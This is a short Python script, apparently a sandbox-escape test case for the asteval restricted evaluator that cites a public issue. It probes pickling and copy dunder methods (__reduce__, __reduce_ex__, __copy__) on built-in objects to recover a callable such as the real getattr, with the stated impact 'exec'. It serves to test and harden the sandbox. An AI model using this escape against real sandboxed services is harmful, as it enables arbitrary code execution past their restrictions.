# technique: __reduce__ of a bound method gives getattr and the object behind
# source: https://github.com/lmfit/asteval/issues/86
# goal: the real getattr
# impact: exec
import copy

found = []
for o in (print, [].append, len, (lambda: 0), {}.get, range(3), iter([]), ValueError('a'), type, (i for i in ())):
    for name in ('__reduce__', '__reduce_ex__', '__getstate__', '__getnewargs_ex__', '__copy__', '__deepcopy__', '__setstate__'):
        try:
            method = getattr(o, name)
            found.append(method(4) if name == '__reduce_ex__' else method({}) if name in ('__deepcopy__', '__setstate__') else method())
        except (AttributeError, TypeError):
            pass


class Reduced:
    def __copy__(self):
        return getattr(super(), '__reduce_ex__')(4)


try:
    found.append(copy.copy(Reduced()))
except (AttributeError, TypeError):
    pass
for o in found:
    if type(o) is tuple and o and callable(o[0]):
        ESCAPED = o
